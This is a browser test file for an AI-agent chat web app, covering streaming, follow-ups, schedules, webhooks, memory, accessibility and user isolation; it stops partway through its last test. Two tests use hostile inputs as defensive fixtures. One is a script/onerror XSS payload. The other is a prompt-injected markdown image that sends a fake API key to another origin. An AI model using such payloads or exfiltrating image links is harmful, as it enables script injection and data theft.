import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import AxeBuilder from '@axe-core/playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { FakeStreamingChatModel } from '@langchain/core/utils/testing';
import { AIMessageChunk, type BaseMessage } from '@langchain/core/messages';
import { ChatGenerationChunk } from '@langchain/core/outputs';
import type { CallbackManagerForLLMRun } from '@langchain/core/callbacks/manager';
import { DemoChatModel } from '../../src/adapters/llm/demo-chat-model.js';
import { TRIGGER_PROMPTS } from '../../src/domain/message-metadata.js';
import { NONCE_PLACEHOLDER } from '../../src/domain/envelope/envelope-visibility.js';
import type { SqlStorage } from '../../src/adapters/sql/sql-storage.js';
import { SqlTimerRepository } from '../../src/adapters/sql/timer-repository.js';
import { ScriptedOpenAiServer, type RecordedRequest } from '../helpers/openai-server.js';
import { buildWebApp } from '../../web/build-if-stale.mjs';
import { browserAvailable, launchBrowser } from '../helpers/browser.js';
import { approve, execute, noKnowledge, step, strategicPlan, tacticalPlan } from '../helpers/planner-scripts.js';
import { always, ScriptedChatModel } from '../helpers/scripted-model.js';
import { ALICE, BOB, startTestServer, type TestServer, scriptedModelOptions } from '../helpers/test-server.js';
import { waitFor } from '../helpers/wait-for.js';

type Json = Record<string, any>;
const execFileAsync = promisify(execFile);

/** Follow-ups a second after the agent's reply, so a test sees one arrive. */
const quickFollowUps = (delayMs: number): Json => ({
  enabled: true,
  delaysMs: { check_in: delayMs, question_unanswered: delayMs, task_incomplete: delayMs, waiting_for_decision: delayMs },
  minDelayMs: 10,
  maxPerSilence: 1,
});

/**
 * A model whose first stream breaks off after half a reply when the test says so (the
 * server retracts what it streamed and retries); the retry waits until the test releases
 * it, then answers whole.
 */
class CutShortModel extends ScriptedChatModel {
  private attempts = 0;
  private open!: () => void;
  private readonly opened = new Promise<void>((resolve) => (this.open = resolve));
  private cut!: () => void;
  private readonly cutOff = new Promise<void>((resolve) => (this.cut = resolve));

  breakOff(): void {
    this.cut();
  }

  release(): void {
    this.cut();
    this.open();
  }

  override async *_streamResponseChunks(_messages: BaseMessage[], _options: this['ParsedCallOptions'], runManager?: CallbackManagerForLLMRun): AsyncGenerator<ChatGenerationChunk> {
    this.attempts += 1;
    const first = this.attempts === 1;
    if (!first) await this.opened;
    for (const token of first ? ['Half ', 'an ', 'answer ', 'and '] : ['The ', 'whole ', 'answer.']) {
      const chunk = new ChatGenerationChunk({ text: token, message: new AIMessageChunk({ content: token }) });
      yield chunk;
      await runManager?.handleLLMNewToken(token, undefined, undefined, undefined, undefined, { chunk });
    }
    if (!first) return;
    await this.cutOff;
    throw new Error('connection reset by peer');
  }
}

/** The web app in a real browser (Debian's chromium) against a real server on SQLite with the demo model. */
describe.skipIf(!browserAvailable())('web app in a browser', () => {
  let server: TestServer;
  let browser: Browser;

  beforeAll(async () => {
    await buildWebApp();
    // A paced demo model, so streaming is visible token by token.
    server = await startTestServer({ kind: 'sqlite' }, { demoTokenDelayMs: 15 });
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await server?.destroy();
  });

  async function signedIn(token: string, width = 1440, hash = ''): Promise<Page> {
    // A context per page (axe needs one), so each person's storage is their own.
    const context = await browser.newContext({ viewport: { width, height: 900 } });
    const page = await context.newPage();
    page.on('close', () => void context.close().catch(() => undefined)); // the browser may close first
    page.on('pageerror', (error) => console.error('page error:', error.message));
    await page.goto(`${server.url}/${hash}`);
    await page.getByLabel('Access token').fill(token);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('navigation', { name: 'Main' }).waitFor();
    return page;
  }

  async function apiThread(body: Json = {}, token = ALICE.token): Promise<string> {
    const response = await server.request('POST', '/api/threads', { token, body });
    expect(response.status).toBe(201);
    return response.body.id as string;
  }

  async function seriousViolations(page: Page): Promise<string[]> {
    const results = await new AxeBuilder({ page }).analyze();
    return results.violations.filter((violation) => violation.impact === 'serious' || violation.impact === 'critical').map((violation) => `${violation.id}: ${violation.help}`);
  }

  it('serves the app at / without a token and keeps /api behind auth; unknown page paths fall back to the app', async () => {
    const root = await fetch(`${server.url}/`);
    expect(root.status).toBe(200);
    expect(await root.text()).toContain('<div id="root">');
    const deep = await fetch(`${server.url}/some/page`, { headers: { accept: 'text/html' } });
    expect(deep.status).toBe(200);
    expect((await fetch(`${server.url}/api/threads`)).status).toBe(401);
    const missing = await fetch(`${server.url}/api/nope`, { headers: { authorization: `Bearer ${ALICE.token}`, accept: 'text/html' } });
    expect(missing.status).toBe(404);
    expect(((await missing.json()) as Json).error.code).toBe('NOT_FOUND');
  });

  it('sends a message and shows the reply streaming token by token, then whole', async () => {
    const threadId = await apiThread({ title: 'Streaming' });
    const page = await signedIn(ALICE.token, 1440, `#chat/${threadId}`);
    const log = page.getByRole('log', { name: 'Conversation' });
    await log.waitFor();
    // Record every state of the streaming draft as the page renders it.
    await page.evaluate(`(() => {
      window.__drafts = [];
      const log = document.querySelector('[role=log]');
      new MutationObserver(() => {
        const draft = log.querySelector('article.streaming .markdown');
        if (draft) window.__drafts.push(draft.textContent);
      }).observe(log, { childList: true, subtree: true, characterData: true });
    })()`);
    await page.getByRole('textbox', { name: 'Message' }).fill('Tell me about streaming please');
    await page.getByRole('button', { name: 'Send' }).click();
    const final = log.locator('article.assistant:not(.streaming)');
    await final.waitFor();
    const whole = (await final.locator('.markdown').textContent()) ?? '';
    expect(whole).toContain('You said: "Tell me about streaming please"');
    // While the run streamed, the reply was a growing draft: several states, each a prefix of the final reply.
    const drafts = (await page.evaluate('window.__drafts')) as string[];
    const partials = [...new Set(drafts.map((draft) => draft.trim()))].filter((draft) => draft.length > 0 && draft.length < whole.length);
    expect(partials.length).toBeGreaterThan(1);
    for (const partial of partials) expect(whole.startsWith(partial)).toBe(true);
    await expect(log.locator('article.user').textContent()).resolves.toContain('Tell me about streaming please');
    expect(await seriousViolations(page)).toEqual([]);
    await page.close();
  });

  it('I2: a follow-up arrives live in the open thread, marked with its reason, never showing the synthetic prompt', async () => {
    const agentId = `followup-${Date.now()}`;
    expect((await server.request('POST', '/api/agents', { body: { id: agentId, name: 'Follower', autonomy: quickFollowUps(1000) } })).status).toBe(201);
    const threadId = await apiThread({ agentId, title: 'Follow-up' });
    const page = await signedIn(ALICE.token, 1440, `#chat/${threadId}`);
    await page.getByRole('textbox', { name: 'Message' }).fill('I will think about it');
    await page.getByRole('textbox', { name: 'Message' }).press('Enter'); // keyboard only
    const log = page.getByRole('log', { name: 'Conversation' });
    const followUp = log.locator('article.autonomous:not(.streaming)');
    await followUp.waitFor({ timeout: 20_000 });
    await expect(followUp.locator('.why').textContent()).resolves.toBe('followed up: question left unanswered');
    await expect(followUp.textContent()).resolves.toContain('Following up on my earlier question');
    const texts = await log.locator('article').allTextContents();
    expect(texts.some((text) => text.includes(TRIGGER_PROMPTS.question_unanswered))).toBe(false);
    expect(await log.locator('article.user').count()).toBe(1);
    // The inspector shows the synthetic prompt only when asked, marked internal.
    await page.getByRole('button', { name: 'Inspector' }).click();
    await page.getByLabel('Show internal messages').check();
    const internal = log.locator('article.internal');
    await internal.first().waitFor();
    await expect(internal.first().textContent()).resolves.toContain(TRIGGER_PROMPTS.question_unanswered);
    await page.close();
  });

  it('the inspector shows the envelope and meta of a scheduled run, with its reason', async () => {
    const at = new Date(Date.now() + 1500).toISOString();
    const created = await server.request('POST', '/api/schedules', { body: { name: 'daily-digest', task: 'Summarise the day', timing: { kind: 'at', at } } });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    let threadId: string | undefined;
    await waitFor(
      async () => {
        const fires = (await server.request('GET', `/api/schedules/${created.body.id}/fires`)).body.fires as Json[];
        threadId = fires.find((fire) => fire.status === 'succeeded')?.threadId;
        return threadId !== undefined;
      },
      20_000,
      'the scheduled run',
    );
    const page = await signedIn(ALICE.token, 1440, `#chat/${threadId}`);
    const log = page.getByRole('log', { name: 'Conversation' });
    // Named once the page has the schedules (read beside the thread: until then the label says the schedule's id).
    await log.locator('article.autonomous .why', { hasText: /^schedule: daily-digest$/ }).first().waitFor();
    await page.getByRole('button', { name: 'Inspector' }).click();
    const inspector = page.getByRole('complementary', { name: 'Inspector' });
    const run = inspector.locator('li.run').filter({ hasText: 'cron' });
    await run.getByText('Envelope and meta').click();
    const envelope = (await run.locator('details.meta pre').textContent()) ?? '';
    expect(JSON.parse(envelope)).toMatchObject({ trigger: 'cron', meta: { schedule_id: created.body.id, scheduled_for_utc: at } });
    // I4: the envelope exactly as the model read it (the unstored nonce shown as a stand-in).
    await run.getByText('Envelope the model read').click();
    const read = JSON.parse((await run.locator('details.envelope pre').textContent()) ?? '') as Json;
    expect(read).toEqual({ vigil_meta: expect.objectContaining({ trigger: 'cron', schedule_id: created.body.id, scheduled_for_utc: at, nonce: NONCE_PLACEHOLDER }) });
    const recorded = (await server.request('GET', `/api/threads/${threadId}/runs`)).body.runs.find((candidate: Json) => candidate.trigger === 'cron');
    expect(read).toEqual(JSON.parse(recorded.envelope.json));
    expect(await seriousViolations(page)).toEqual([]);
    await page.close();
  });

  it('the inspector shows what the next model call receives, part by part with token counts, as the API reports it', async () => {
    const threadId = await apiThread({ title: 'Context' });
    expect((await server.request('POST', `/api/threads/${threadId}/messages`, { body: { content: 'What goes into your context?' } })).status).toBe(200);
    const context = (await server.request('GET', `/api/threads/${threadId}/context`)).body as Json;
    const page = await signedIn(ALICE.token, 1440, `#chat/${threadId}`);
    await page.getByRole('button', { name: 'Inspector' }).click();
    const section = page.getByRole('region', { name: 'Next model call' });
    const table = section.getByRole('table', { name: 'Tokens per part of the next model call' });
    await table.waitFor();
    const cell = (part: string) => table.getByRole('row').filter({ has: page.getByRole('rowheader', { name: part }) }).getByRole('cell');
    await expect(cell('System prompt').textContent()).resolves.toBe(String(context.system.tokens));
    await expect(cell('Envelope').textContent()).resolves.toBe('none');
    // The tools the chat call binds are input too (I14), shown as the API counts them.
    const tools = context.tools.count > 0 ? [`Tool definitions (${context.tools.count})`, String(context.tools.tokens)] : ['Tool definitions', 'none'];
    await expect(cell(tools[0]!).textContent()).resolves.toBe(tools[1]);
    await expect(cell('Recalled memories').textContent()).resolves.toBe(context.memories.count > 0 ? String(context.memories.tokens) : 'none');
    await expect(cell(`Messages (${context.messages.window.length} of ${context.messages.inThread})`).textContent()).resolves.toBe(String(context.messages.tokens));
    await expect(section.textContent()).resolves.toContain(`${context.inputTokens} of ${context.budget.inputLimit} input tokens`);
    // "Inspect" on the reply opens its run, focused, its envelope shown: a person's run reached the model without one.
    await page.getByRole('log', { name: 'Conversation' }).locator('article.assistant').getByRole('button', { name: /^Inspect/ }).click();
    const run = page.getByRole('complementary', { name: 'Inspector' }).locator('li.run.focused');
    await run.getByText('None: user runs reach the model without an envelope').waitFor();
    await waitFor(async () => (await page.evaluate('document.activeElement?.id')) === (await run.getAttribute('id')), 5_000, 'the run to take focus');
    // …and what its model call received, as the run recorded it.
    const [recorded] = (await server.request('GET', `/api/threads/${threadId}/runs`)).body.runs as Json[];
    const [call] = recorded!.modelInputs as Json[];
    const received = run.locator('details.model-inputs');
    await expect(received.getAttribute('open')).resolves.not.toBeNull();
    await expect(received.textContent()).resolves.toContain(`${call!.inputTokens} of ${call!.inputLimit} input tokens · system prompt ${call!.systemTokens} · envelope none`);
    await expect(received.textContent()).resolves.toContain(`${call!.window.count} messages (${call!.window.tokens} tokens`);
    expect(await seriousViolations(page)).toEqual([]);
    await page.close();
  });

  it('creates a schedule (with its next 5 fires previewed) and a webhook (secret shown once) through the UI; the API sees both', async () => {
    const page = await signedIn(ALICE.token, 1440, '#schedules');
    await page.getByLabel('Name').fill('weekday-standup');
    await page.getByLabel('Cron expression').fill('30 9 * * 1-5');
    await page.getByLabel('Time zone').fill('Europe/Berlin');
    const preview = page.locator('.preview li');
    await waitFor(async () => (await preview.count()) === 5, 10_000, 'five previewed fires');
    await page.getByLabel('Task').fill('Ask what is planned today');
    await page.getByRole('button', { name: 'Create schedule' }).click();
    await page.getByRole('heading', { name: 'weekday-standup' }).waitFor();
    const schedules = (await server.request('GET', '/api/schedules')).body.schedules as Json[];
    expect(schedules.find((schedule) => schedule.name === 'weekday-standup')).toMatchObject({ timing: { kind: 'cron', cron: '30 9 * * 1-5', timezone: 'Europe/Berlin' }, task: 'Ask what is planned today' });
    expect(await seriousViolations(page)).toEqual([]);

    await page.getByRole('link', { name: 'Webhooks' }).click();
    // The webhooks form itself: right after the click the schedules form (its own Name field) may still be shown.
    const form = page.getByRole('form', { name: 'New webhook' });
    await form.getByLabel('Name').fill('github push');
    await form.getByRole('button', { name: 'Create webhook' }).click();
    const secret = (await page.getByTestId('hook-secret').textContent()) ?? '';
    expect(secret.length).toBeGreaterThan(16);
    const curl = await page.getByLabel('Signed curl example').inputValue();
    expect(curl).toContain(secret);
    expect(curl).toContain('webhook-signature: v1,');
    const hooks = (await server.request('GET', '/api/hooks')).body.hooks as Json[];
    const hook = hooks.find((candidate) => candidate.name === 'github push');
    expect(hook).toBeDefined();
    expect(curl).toContain(`${server.url}/api/hooks/${hook!.id}`);
    expect(JSON.stringify(hook)).not.toContain(secret); // shown once: the API never returns it again
    expect(await seriousViolations(page)).toEqual([]);
    await page.close();
  });

  it('the copyable signed curl example delivers; the delivery is then listed under its webhook with its run', async () => {
    const page = await signedIn(ALICE.token, 1440, '#webhooks');
    await page.getByLabel('Name').fill('deploys');
    await page.getByRole('button', { name: 'Create webhook' }).click();
    const curl = await page.getByLabel('Signed curl example').inputValue();
    // The example as a person would paste it into a shell (bash, openssl, curl).
    const { stdout } = await execFileAsync('bash', ['-c', curl]);
    const accepted = JSON.parse(stdout) as Json;
    expect(accepted).toMatchObject({ runId: expect.any(String), threadId: expect.any(String), deliveryId: expect.stringMatching(/^msg_/) });
    await waitFor(async () => (await server.request('GET', `/api/runs/${accepted.runId}`)).body.status === 'succeeded', 10_000, 'the delivery\'s run');
    const card = page.locator('li.card').filter({ has: page.getByRole('heading', { name: 'deploys' }) });
    await card.getByText('Deliveries of deploys').click();
    const table = card.getByRole('table', { name: 'Deliveries of deploys, newest first' });
    await table.waitFor();
    const row = table.getByRole('row').filter({ hasText: accepted.deliveryId });
    await expect(row.getByRole('link', { name: 'succeeded' }).getAttribute('href')).resolves.toBe(`#chat/${accepted.threadId}`);
    expect(await seriousViolations(page)).toEqual([]);
    // The run link opens the webhook's thread, its reply marked with why it happened.
    await row.getByRole('link', { name: 'succeeded' }).click();
    // Named once the webhooks' names are loaded; before, the kind alone (never its raw id).
    const why = page.getByRole('log', { name: 'Conversation' }).locator('article.autonomous .why').first();
    const seen = new Set<string | null>();
    await waitFor(async () => seen.add(await why.textContent()).has('webhook: deploys'), 10_000, "the reply's reason, named");
    expect([...seen].filter((text) => text !== 'webhook' && text !== 'webhook: deploys' && text !== null)).toEqual([]);
    await page.close();
  });

  it('a plan runs live with the demo model: milestones, tool calls and critic verdicts appear in the inspector while it runs', async () => {
    expect((await server.request('POST', '/api/agents', { body: { id: 'demo-planner', name: 'Demo planner', kind: 'planner', model: 'demo' } })).status).toBe(201);
    const threadId = await apiThread({ agentId: 'demo-planner', title: 'Demo plan' });
    const page = await signedIn(ALICE.token, 1440, `#chat/${threadId}`);
    await page.getByRole('button', { name: 'Inspector' }).click();
    const plans = page.getByRole('region', { name: 'Plans' });
    // Record every state of the plan tree as it renders, to see it change while the run goes.
    await page.evaluate(`(() => {
      window.__planStates = [];
      new MutationObserver(() => {
        const tree = document.querySelector('#inspector .plan');
        if (tree) window.__planStates.push(tree.textContent);
      }).observe(document.querySelector('#inspector'), { childList: true, subtree: true, characterData: true });
    })()`);
    await page.getByRole('textbox', { name: 'Message' }).fill('Plan my Saturday');
    await page.getByRole('button', { name: 'Send' }).click();
    await plans.getByText(/Answer "Plan my Saturday" \(a demo plan\) · completed/).waitFor({ timeout: 20_000 });
    const text = (await plans.textContent()) ?? '';
    expect(text).toContain('Check the clock · completed');
    expect(text).toContain('Note the request · completed');
    expect(text).toContain('critic: approve');
    expect(text).toContain('tool current_time · succeeded');
    expect(text).toContain('tool memory_write · succeeded');
    const states = (await page.evaluate('window.__planStates')) as string[];
    expect(states.some((state) => state.includes('· active') || state.includes('· planning'))).toBe(true); // seen before it ended
    const reply = page.getByRole('log', { name: 'Conversation' }).locator('article.assistant:not(.streaming)');
    await expect(reply.textContent()).resolves.toContain('I worked through a plan for: Answer "Plan my Saturday"');
    expect(await page.getByRole('log', { name: 'Conversation' }).textContent()).not.toContain('"milestones"'); // no planner JSON shown to the person
    expect(await seriousViolations(page)).toEqual([]);
    await page.close();
  });

  it('agent form: the server\'s validation errors appear next to their fields; a valid edit saves', async () => {
    const page = await signedIn(ALICE.token, 1440, '#agents');
    await page.getByRole('button', { name: 'New agent' }).click();
    const form = page.getByRole('form', { name: 'New agent' });
    await form.getByLabel('Id').fill('Not Valid!');
    await form.getByLabel('Name').fill('Helper');
    await form.getByLabel('Model').fill('gpt-4');
    await form.getByRole('button', { name: 'Save agent' }).click();
    await expect(form.locator('#agent-id-error').textContent()).resolves.toContain('lowercase');
    await expect(form.locator('#agent-model-error').textContent()).resolves.toContain('demo');
    await form.getByLabel('Id').fill('helper');
    await form.getByLabel('Model').fill('demo');
    await form.getByRole('button', { name: 'Save agent' }).click();
    await page.getByRole('heading', { name: 'Helper' }).waitFor();
    expect((await server.request('GET', '/api/agents/helper')).body).toMatchObject({ name: 'Helper', model: 'demo' });
    expect(await seriousViolations(page)).toEqual([]);
    await page.close();
  });

  it('the inspector counts down a pending follow-up and cancels it; the API sees it cancelled', async () => {
    const agentId = `patient-${Date.now()}`;
    expect((await server.request('POST', '/api/agents', { body: { id: agentId, name: 'Patient', autonomy: quickFollowUps(600_000) } })).status).toBe(201);
    const threadId = await apiThread({ agentId, title: 'Countdown' });
    expect((await server.request('POST', `/api/threads/${threadId}/messages`, { body: { content: 'hello' } })).status).toBe(200);
    const page = await signedIn(ALICE.token, 1440, `#chat/${threadId}`);
    await page.getByRole('button', { name: 'Inspector' }).click();
    const inspector = page.getByRole('complementary', { name: 'Inspector' });
    const countdown = inspector.locator('.countdown');
    await countdown.waitFor();
    const first = await countdown.textContent();
    expect(first).toMatch(/^(9|10) min \d+ s$/);
    await waitFor(async () => (await countdown.textContent()) !== first, 5_000, 'the countdown to tick');
    await inspector.getByRole('button', { name: 'Cancel follow-up' }).click();
    await inspector.getByText('None pending.').waitFor();
    const timers = (await server.request('GET', `/api/threads/${threadId}/timers?state=all`)).body.timers as Json[];
    expect(timers[0]).toMatchObject({ state: 'cancelled', stateReason: 'cancelled by its owner' });
    await page.close();
  });

  it('memory: browse, search and delete an agent\'s memories', async () => {
    await apiThread(); // the default agent exists from the first thread on
    for (const content of ['Prefers window seats', 'Allergic to peanuts']) {
      expect((await server.request('POST', '/api/agents/default/memories', { body: { content } })).status).toBe(201);
    }
    const page = await signedIn(ALICE.token, 1440, '#memory');
    await page.getByLabel('Agent').selectOption('default');
    await page.getByText('Prefers window seats').waitFor();
    await page.getByText('Allergic to peanuts').waitFor();
    // Who wrote it: these two were saved through the API.
    await expect(page.locator('li.card').filter({ hasText: 'Prefers window seats' }).textContent()).resolves.toContain('saved by you');
    await page.getByLabel('Search memories').fill('peanuts');
    await page.getByRole('button', { name: 'Search' }).click();
    await waitFor(async () => (await page.getByText('Prefers window seats').count()) === 0, 5_000, 'the search to narrow the list');
    await page.getByRole('button', { name: 'Delete memory' }).click();
    await page.getByText('No memories.').waitFor();
    const left = (await server.request('GET', '/api/agents/default/memories')).body.memories as Json[];
    expect(left.map((memory) => memory.content)).toEqual(['Prefers window seats']);
    await page.close();
  });

  it('memory: past the newest page, "Show older memories" pages back to the oldest one; a delete keeps the pages loaded', async () => {
    const agentId = `archive-${Date.now()}`;
    expect((await server.request('POST', '/api/agents', { body: { id: agentId, name: 'Archive' } })).status).toBe(201);
    for (let index = 1; index <= 103; index++) {
      expect((await server.request('POST', `/api/agents/${agentId}/memories`, { body: { content: `Archived fact ${index}` } })).status).toBe(201);
    }
    const page = await signedIn(ALICE.token, 1440, '#memory');
    await page.getByLabel('Agent').selectOption(agentId);
    await page.getByText('Archived fact 103', { exact: true }).waitFor();
    const cards = page.locator('li.card');
    await waitFor(async () => (await cards.count()) === 100, 5_000, 'the newest page of memories');
    expect(await page.getByText('Archived fact 3', { exact: true }).count()).toBe(0);
    await page.getByRole('button', { name: 'Show older memories' }).click();
    await page.getByText('Archived fact 1', { exact: true }).waitFor();
    expect(await cards.count()).toBe(103);
    await page.getByRole('button', { name: 'Show older memories' }).waitFor({ state: 'detached' });
    // Deleting one keeps the older page on screen.
    await cards.filter({ has: page.getByText('Archived fact 50', { exact: true }) }).getByRole('button', { name: 'Delete memory' }).click();
    await waitFor(async () => (await cards.count()) === 102, 5_000, 'the deleted memory to leave the page');
    expect(await page.getByText('Archived fact 1', { exact: true }).count()).toBe(1);
    await page.close();
  });

  it('memory: "Show older memories" pages the list shown, whatever is typed (not yet searched) in the search box', async () => {
    const agentId = `typed-${Date.now()}`;
    expect((await server.request('POST', '/api/agents', { body: { id: agentId, name: 'Typed' } })).status).toBe(201);
    for (let index = 1; index <= 101; index++) {
      expect((await server.request('POST', `/api/agents/${agentId}/memories`, { body: { content: `Kept fact ${index}` } })).status).toBe(201);
    }
    const page = await signedIn(ALICE.token, 1440, '#memory');
    await page.getByLabel('Agent').selectOption(agentId);
    await page.getByText('Kept fact 101', { exact: true }).waitFor();
    // Typed, not searched: the list on screen is still the newest page, and pages on as such.
    await page.getByLabel('Search memories').fill('fact');
    await page.getByRole('button', { name: 'Show older memories' }).click();
    await page.getByText('Kept fact 1', { exact: true }).waitFor({ timeout: 5_000 });
    expect(await page.getByRole('alert').count()).toBe(0);
    expect(await page.locator('li.card').count()).toBe(101);
    await page.close();
  });

  it('the thread list marks a thread with an unseen autonomous message, and rename and delete work from it', async () => {
    const agentId = `marker-${Date.now()}`;
    expect((await server.request('POST', '/api/agents', { body: { id: agentId, name: 'Marker', autonomy: quickFollowUps(300) } })).status).toBe(201);
    const threadId = await apiThread({ agentId, title: 'Quiet thread' });
    const page = await signedIn(ALICE.token, 1440, '#chat');
    expect((await server.request('POST', `/api/threads/${threadId}/messages`, { body: { content: 'hello' } })).status).toBe(200);
    const item = page.getByRole('complementary', { name: 'Threads' }).getByRole('listitem').filter({ hasText: 'Quiet thread' });
    await item.getByLabel('new autonomous message').waitFor({ timeout: 20_000 });
    await item.getByRole('button', { name: 'Quiet thread' }).first().click();
    await page.getByRole('log', { name: 'Conversation' }).locator('article.autonomous').waitFor();
    await expect(item.getByLabel('new autonomous message').count()).resolves.toBe(0);

    await item.getByRole('button', { name: 'Rename Quiet thread' }).click();
    await page.getByLabel('New title').fill('Renamed thread');
    await page.getByLabel('New title').press('Enter');
    await page.getByRole('heading', { name: 'Renamed thread' }).waitFor();
    expect((await server.request('GET', `/api/threads/${threadId}`)).body.title).toBe('Renamed thread');
    page.once('dialog', (dialog) => void dialog.accept());
    await page.getByRole('button', { name: 'Delete Renamed thread' }).click();
    await waitFor(async () => (await server.request('GET', `/api/threads/${threadId}`)).status === 404, 5_000, 'the thread to be deleted');
    await page.getByText('Pick a thread or start a new one.').waitFor();
    await page.close();
  });

  it('planner agent form: tools listed, planner settings saved, a refused key named next to the field', async () => {
    expect((await server.request('POST', '/api/agents', { body: { id: 'form-planner', name: 'Form Planner', kind: 'planner' } })).status).toBe(201);
    const page = await signedIn(ALICE.token, 1440, '#agents');
    await page.getByRole('button', { name: 'Edit Form Planner' }).click();
    const form = page.getByRole('form', { name: 'Edit Form Planner' });
    await form.getByText('current_time').waitFor();
    const settings = form.getByLabel(/Planner settings/);
    await settings.fill(JSON.stringify({ budgets: { maxSteps: 'lots' } }));
    await form.getByRole('button', { name: 'Save agent' }).click();
    await expect(form.locator('#agent-planner-error').textContent()).resolves.toContain('/budgets/maxSteps');
    await settings.fill(JSON.stringify({ budgets: { maxToolCalls: 5 } }));
    await form.getByRole('button', { name: 'Save agent' }).click();
    await form.waitFor({ state: 'detached' });
    expect((await server.request('GET', '/api/agents/form-planner/planner')).body.budgets).toMatchObject({ maxToolCalls: 5 });
    await page.close();
  });

  it('the agent picker lists each agent once: the default agent is its first choice, by its name', async () => {
    await apiThread(); // the default agent exists
    const agents = (await server.request('GET', '/api/agents')).body.agents as Json[];
    const page = await signedIn(ALICE.token);
    const options = page.getByLabel('Agent for a new thread').locator('option');
    await expect(options.allTextContents()).resolves.toEqual([agents.find((agent) => agent.id === 'default')!.name, ...agents.filter((agent) => agent.id !== 'default').map((agent) => agent.name)]);
    expect(await options.first().getAttribute('value')).toBe('');
    await page.close();
  });

  it('Escape cancels a rename and closes the inspector (focus back on what opened it), but not while typing a message', async () => {
    const threadId = await apiThread({ title: 'Escape test' });
    const page = await signedIn(ALICE.token, 1440, `#chat/${threadId}`);
    const inspector = page.getByRole('complementary', { name: 'Inspector' });
    await page.getByRole('button', { name: 'Inspector' }).click();
    await inspector.waitFor();
    // In the message box, Escape is the box's: the inspector stays (two frames: React has answered the key).
    await page.getByRole('textbox', { name: 'Message' }).press('Escape');
    await page.evaluate('new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))');
    expect(await inspector.count()).toBe(1);
    await page.getByLabel('Show internal messages').press('Escape');
    await inspector.waitFor({ state: 'detached', timeout: 2_000 });
    expect(await page.evaluate('document.activeElement.textContent')).toBe('Inspector');
    // Rename: Escape leaves the form unsaved, the focus back on Rename.
    await page.getByRole('button', { name: 'Rename Escape test' }).click();
    await page.getByLabel('New title').fill('Changed');
    await page.getByLabel('New title').press('Escape');
    await page.getByLabel('New title').waitFor({ state: 'detached', timeout: 2_000 });
    expect(await page.evaluate('document.activeElement.getAttribute("aria-label")')).toBe('Rename Escape test');
    expect((await server.request('GET', `/api/threads/${threadId}`)).body.title).toBe('Escape test');
    await page.close();
  });

  it("I12: a second user signed in does not see the first user's threads", async () => {
    const title = `alice-private-${Date.now()}`;
    await apiThread({ title });
    const alice = await signedIn(ALICE.token);
    await alice.getByText(title).waitFor();
    await alice.close();
    const bob = await signedIn(BOB.token);
    await bob.getByRole('button', { name: 'New thread' }).waitFor();
    await bob.getByRole('complementary', { name: 'Threads' }).getByText(/No threads yet|Untitled/).first().waitFor();
    expect(await bob.getByText(title).count()).toBe(0);
    await bob.close();
  });

  it('model text with <script> and <img onerror> renders inert', async () => {
    const threadId = await apiThread({ title: 'Injection' });
    const page = await signedIn(ALICE.token, 1440, `#chat/${threadId}`);
    const attack = '<script>window.__pwned = 1</script><img src="x" onerror="window.__pwned = 2"> **bold**';
    await page.getByRole('textbox', { name: 'Message' }).fill(attack);
    await page.getByRole('button', { name: 'Send' }).click();
    const reply = page.getByRole('log', { name: 'Conversation' }).locator('article.assistant:not(.streaming)');
    await reply.waitFor();
    // The demo model echoes the text: the markdown renders (bold), the markup does not run.
    await reply.locator('strong').waitFor();
    await page.reload();
    await reply.waitFor();
    expect(await page.evaluate('window.__pwned')).toBeUndefined();
    expect(await page.locator('.log script').count()).toBe(0);
    expect(await page.locator('.log img[onerror]').count()).toBe(0);
    await page.close();
  });

  it('the app is served with a CSP that keeps its pages to this server, no framing, nosniff; an image in model text from elsewhere is not loaded but linked', async () => {
    for (const path of ['/', '/some/page']) {
      const page = await fetch(`${server.url}${path}`, { headers: { accept: 'text/html' } });
      expect(page.status).toBe(200);
      expect(page.headers.get('content-security-policy')).toMatch(/default-src 'self';.*img-src 'self' data: blob:;.*frame-ancestors 'none'/);
      expect(page.headers.get('x-content-type-options')).toBe('nosniff');
      expect(page.headers.get('x-frame-options')).toBe('DENY');
    }
    // A prompt-injected image whose URL carries what the model saw, on another origin.
    const hits: string[] = [];
    const elsewhere = createServer((request, response) => {
      hits.push(request.url ?? '');
      response.end();
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    try {
      const { port } = elsewhere.address() as AddressInfo;
      const threadId = await apiThread({ title: 'Exfiltration' });
      const injected = `![status](http://127.0.0.1:${port}/pixel.png?d=my-api-key-is-sk-123)`;
      expect((await server.request('POST', `/api/threads/${threadId}/messages`, { body: { content: injected } })).status).toBe(200);
      const page = await signedIn(ALICE.token, 1440, `#chat/${threadId}`);
      const reply = page.getByRole('log', { name: 'Conversation' }).locator('article.assistant');
      await reply.getByRole('link', { name: 'image: status' }).waitFor();
      expect(await page.locator('.log img').count()).toBe(0);
      await page.waitForLoadState('networkidle');
      expect(hits).toEqual([]);
      await page.close();
    } finally {
      await new Promise((resolve) => elsewhere.close(resolve));
    }
  });

  it('I15: a reply that arrives while the socket reconnects still shows in the open thread', async () => {
    const threadId = await apiThread({ title: 'Reconnect' });
    const page = await signedIn(ALICE.token, 1440, `#chat/${threadId}`);
    const log = page.getByRole('log', { name: 'Conversation' });
    // Live works: a message sent from elsewhere (another device) shows here.
    expect((await server.request('POST', `/api/threads/${threadId}/messages`, { body: { content: 'first, from my phone' } })).status).toBe(200);
    await log.locator('article.assistant:not(.streaming)', { hasText: 'first, from my phone' }).waitFor();
    // The connection drops (a network blip, an instance restarting), and a reply arrives meanwhile.
    for (const client of server.app.websocketServer.clients) client.terminate();
    expect((await server.request('POST', `/api/threads/${threadId}/messages`, { body: { content: 'second, while you were away' } })).status).toBe(200);
    await log.locator('article.assistant:not(.streaming)', { hasText: 'second, while you were away' }).waitFor({ timeout: 10_000 });
    // Nothing twice: the replay and the reloaded history are merged by message id.
    expect(await log.locator('article.assistant:not(.streaming)', { hasText: 'first, from my phone' }).count()).toBe(1);
    await page.close();
  });

  it("I15: a reply that arrives while the thread's history is loading is not wiped when the history lands", async () => {
